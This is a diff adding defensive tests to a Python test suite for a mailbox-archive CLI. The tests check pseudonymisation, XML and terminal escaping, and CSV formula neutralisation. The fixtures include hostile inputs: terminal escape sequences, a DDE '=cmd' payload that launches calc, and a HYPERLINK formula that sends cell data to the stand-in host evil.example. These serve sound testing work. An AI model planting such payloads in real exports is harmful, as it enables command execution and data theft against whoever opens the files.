@@ -20,12 +20,13 @@ from cli_helpers import FIXTURES, SAMPLE, TMP, deja, fresh_db, tmp
 
 def message(n, sender="A <a@x.example>", headers="", body="body"):
     return ("From a@b Mon Jan  1 10:00:00 2001\nFrom: %s\nSubject: s %s\nMessage-ID: <%s@x>\n"
-            "Date: Mon, 1 Jan 2001 10:00:00 +0000\n%s\n%s\n\n" % (sender, n, n, headers, body))
+            "Date: Mon, 1 Jan 2001 10:00:00 +0000\n%s\n%s\n\n"
+            % (sender, n, n, headers + "\n" if headers else "", body))
 
 
-def write(name, text, mode="w"):
+def write(name, text, mode="w", encoding=None):
     path = tmp(name)
-    with open(path, mode) as f:
+    with open(path, mode, encoding=encoding) as f:
         f.write(text)
     return path
 
@@ -195,6 +196,188 @@ def a_zip_of_many_members_is_read_once():
     with sqlite3.connect(db) as c:
         assert c.execute("SELECT count(*) FROM messages").fetchone()[0] == 3000
     assert took < 40, took
+
+
+# -- a pseudonymised run names nobody ----------------------------------------
+
+FIELDS = ("id,file,file_sha256,byte_offset,byte_length,line_no,envelope,message_id,date,date_raw,"
+          "from_addr,from_name,author_id,subject,newsgroups,in_reply_to,references,thread_id,"
+          "parent_id,duplicate_of,charset,flags,quoted_lines,own_lines,attachment_count,body,"
+          "own_text,author,lang,lang_reliable,words,sentences,code_lines,nonletter_share,"
+          "digit_share,upper_share,oov_share,near_duplicate_of")
+
+MUNGED = ("A: john (at) example (dot) com\nB: john at example dot com\n"
+          "C: john [at] example [dot] com\nD: \"john smith\"@example.com\nE: john@[192.0.2.1]\n"
+          "F: JOHN AT EXAMPLE DOT COM\nG: john{at}example{dot}com\nH: john_at_example_dot_com\n"
+          "I: john <at> example <dot> com\nJ: john @ example.com")
+
+
+@tap.test
+def a_pseudonymised_run_names_nobody():
+    mbox = write("people.mbox", open(SAMPLE, encoding="latin-1").read() +
+                 message("munged", "John Smith <john.smith@univ.example>", body=MUNGED),
+                 encoding="latin-1")
+    db = fresh_db("people.db")
+    ok("ingest", "-q", "--db", db, mbox)
+    key = tmp("people.key")
+    if not os.path.exists(key):
+        ok("keygen", key)
+    with sqlite3.connect(db) as c:
+        addresses = {a for (a,) in c.execute("SELECT address FROM author_addresses UNION"
+                                              " SELECT from_addr FROM messages WHERE from_addr IS NOT NULL")}
+        names = {n for (n,) in c.execute("SELECT name FROM authors UNION SELECT from_name FROM messages"
+                                          " WHERE from_name IS NOT NULL") if n and len(n) > 3}
+    assert "john.smith@univ.example" in addresses and len(addresses) >= 5, addresses
+    outputs = []
+    for fmt in ("csv", "jsonl", "tsv"):
+        out = tmp("people-export." + fmt)
+        ok("export", "-q", "--db", db, "--pseudonymise", key, "--fields", FIELDS, "--format", fmt,
+           "--author", "john.smith@univ.example", "--out", out, "--statement", out + ".md")
+        outputs += [out, out + ".md"]
+        if fmt == "csv":
+            rows = list(csv.DictReader(open(out, newline="")))
+            assert len(rows) == 1 and rows[0]["body"].count("[address]") == 10, rows[0]["body"]
+    for fmt in ("graphml", "gexf", "gml", "pajek", "csv", "json"):
+        out = tmp("people-net." + fmt)
+        ok("network", "-q", "--db", db, "--pseudonymise", key, "--format", fmt, "--out", out,
+           "--statement", out + ".md", "-a", "john.smith@univ.example", "-a", "nobody@else.example")
+        outputs += [p for p in (out, out + ".md", out + ".nodes.csv", out + ".edges.csv",
+                                tmp("people-net.nodes.csv"), tmp("people-net.edges.csv"))
+                    if os.path.exists(p)]
+    stats = tmp("people-stats.txt")
+    with open(stats, "w") as f:
+        f.write(ok("stats", "--db", db, "--pseudonymise", key, "--format", "json").stdout)
+    outputs.append(stats)
+    for path in outputs:
+        text = open(path, encoding="utf-8", errors="replace").read().lower()
+        for address in addresses:
+            assert address.lower() not in text, (path, address)
+        if path.endswith((".md", ".graphml", ".gexf", ".gml", ".net", ".csv", ".json", ".txt")) \
+                and "export" not in path:
+            for name in names:
+                assert name.lower() not in text, (path, name)
+
+
+# -- every command on a selection without replies ----------------------------
+
+@tap.test
+def edgeless_corpora_make_every_output():
+    db = fresh_db("edgeless.db")
+    ok("ingest", "-q", "--db", db, write("edgeless.mbox", message("e1") + message("e2", "B <b@x.example>")))
+    ok("report", "--db", db, "--out", tmp("edgeless.html"))
+    ok("plot", "--db", db, "network", "--out", tmp("edgeless.svg"))
+    stats = json.loads(ok("network", "--db", db, "--stats", "--format", "json").stdout)
+    assert stats["vertices"] == 2 and stats["edges"] == 0 and stats["communities"] == 2, stats
+    assert stats["density"] == 0 and stats["reciprocity"] is None, stats
+    for fmt in ("graphml", "gexf", "gml", "pajek", "csv"):
+        ok("network", "-q", "--db", db, "--with-metrics", "--format", fmt, "--out", tmp("edgeless." + fmt))
+    # nothing selected at all: valid JSON, no NaN
+    empty = ok("network", "--db", db, "--stats", "--format", "json", "-a", "nobody@nowhere.example").stdout
+    assert json.loads(empty)["vertices"] == 0, empty
+
+
+# -- what a stranger's text reaches is escaped for its reader ----------------
+
+@tap.test
+def xml_holds_no_character_xml_forbids():
+    import xml.etree.ElementTree as ET
+    db = fresh_db("xml.db")
+    ok("ingest", "-q", "--db", db, write("xml.mbox", message("x1", "Ctl\x01One\x1b[31m <a@x.example>") +
+                                          message("x2", "Non\ufffeChar\uffff <b@x.example>",
+                                                  "In-Reply-To: <x1@x>")))
+    for fmt in ("graphml", "gexf"):
+        out = tmp("xml." + fmt)
+        ok("network", "-q", "--db", db, "--format", fmt, "--out", out, "--with-metrics")
+        names = [e.text for e in ET.parse(out).iter() if e.text and ("One" in e.text or "Char" in e.text)]
+        names += [v for e in ET.parse(out).iter() for v in e.attrib.values() if "One" in v or "Char" in v]
+        assert any("Ctl\ufffdOne" in n for n in names), names
+        assert any("Non\ufffdChar\ufffd" in n for n in names), names
+
+
+@tap.test
+def file_names_that_are_not_utf8_are_written_validly():
+    d = tmp("bad-names")
+    os.makedirs(d, exist_ok=True)
+    raw = os.path.join(os.fsencode(d), b"bad\xff\x1b[2J.mbox")
+    with open(raw, "wb") as f:
+        f.write(message("bn").encode())
+    db = fresh_db("bad-names.db")
+    r = deja("ingest", "--db", db, d)
+    assert r.returncode == 0 and "\x1b" not in r.stderr and "^[[2J" in r.stderr, r.stderr
+    with sqlite3.connect(db) as c:
+        c.text_factory = bytes
+        assert c.execute("SELECT path FROM files").fetchone()[0] == raw   # stored losslessly
+    for fmt in ("jsonl", "json", "csv", "tsv"):
+        out = ok("export", "-q", "--db", db, "--fields", "id,file", "--format", fmt).stdout
+        assert "bad\ufffd\x1b[2J.mbox" in out or "bad\ufffd\\u001b[2J.mbox" in out, (fmt, out)
+    for line in ok("export", "-q", "--db", db, "--fields", "id,file", "--format", "jsonl").stdout.splitlines():
+        json.loads(line)
+    json.loads(ok("stats", "--db", db, "--format", "json").stdout)
+    sql = tmp("bad-names.sql")
+    ok("export-pg", "-q", "--db", db, "--out", sql)
+    open(sql, encoding="utf-8").read()       # valid UTF-8 throughout
+    ok("report", "--db", db, "--out", tmp("bad-names.html"))
+    open(tmp("bad-names.html"), encoding="utf-8").read()
+
+
+@tap.test
+def export_pg_partition_names_never_collide():
+    import re
+    db = fresh_db("parts.db")
+    text = "".join(message("p%d" % i, headers="Newsgroups: %s" % g)
+                   for i, g in enumerate(["other.misc", "comp.lang", "comp-later.x", "other", "Other.x"]))
+    ok("ingest", "-q", "--db", db, write("parts.mbox", text))
+    sql = tmp("parts.sql")
+    ok("export-pg", "-q", "--db", db, "--out", sql)
+    names = re.findall(r"^CREATE TABLE (\S+)", open(sql).read(), re.M)
+    assert len(names) == len(set(names)) and len(names) > 8, names
+
+
+@tap.test
+def a_query_with_no_word_is_refused():
+    db = sample_db("query.db")
+    for q in ('"', "*", "?", "-", '" "', "()"):
+        r = deja("search", "--db", db, "--count", q)
+        assert r.returncode == 2 and "no word to search" in r.stderr, (q, r.returncode, r.stdout, r.stderr)
+        r = deja("export", "-q", "--db", db, "--match", q, "--fields", "id")
+        assert r.returncode == 2 and r.stdout == "", (q, r.stdout)
+
+
+@tap.test
+def no_escape_sequence_reaches_a_terminal():
+    db = fresh_db("esc.db")
+    ok("ingest", "-q", "--db", db, write("esc.mbox", message(
+        "esc", "Eve\x1b]0;PWNED\x07 <e@x.example>",
+        body="body \x1b[2J\x1b[31mred\x9b31m\rhidden")))
+    outputs = [ok("show", "--db", db, "1").stdout,
+               ok("show", "--db", db, "--thread", "1").stdout,
+               ok("search", "--db", db, "body").stdout,
+               ok("authors", "--db", db).stdout,
+               ok("stats", "--db", db).stdout,
+               ok("export", "-q", "--db", db, "--fields", "id,from_name,body", "--format", "json").stdout]
+    for out in outputs:
+        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out, repr(out)
+    assert "Eve^[]0;PWNED^G" in outputs[0] and "^[[2J^[[31mred" in outputs[0], outputs[0]
+    assert "^Mhidden" in outputs[0], outputs[0]
+
+
+@tap.test
+def csv_for_spreadsheets_runs_no_formula():
+    db = fresh_db("formula.db")
+    ok("ingest", "-q", "--db", db, write("formula.mbox", message(
+        "f", "=cmd|' /C calc'!A0 <f@x.example>", headers="X-X: y").replace(
+        "Subject: s f", 'Subject: =HYPERLINK("http://evil.example/?"&A1,"click")')))
+    plain = ok("export", "-q", "--db", db, "--fields", "id,subject,from_name,byte_offset",
+               "--format", "csv").stdout
+    row = list(csv.reader(io.StringIO(plain)))[1]
+    assert row[1].startswith("=HYPERLINK"), row          # exact data by default
+    for args, env in ((["--spreadsheet-safe"], {}), ([], {"DEJA_SPREADSHEET_SAFE": "1"})):
+        r = subprocess.run([os.environ["DEJA"]] + args + ["export", "-q", "--db", db, "--fields",
+                           "id,subject,from_name,byte_offset", "--format", "csv"],
+                           capture_output=True, text=True, env=dict(os.environ, DEJA_NO_PROGRESS="1", **env))
+        row = list(csv.reader(io.StringIO(r.stdout)))[1]
+        assert row[1].startswith("'=HYPERLINK") and row[2].startswith("'=cmd"), row
+        assert row[0] == "1" and row[3] == "0", row   # numbers stay numbers
 
 
 if __name__ == "__main__":
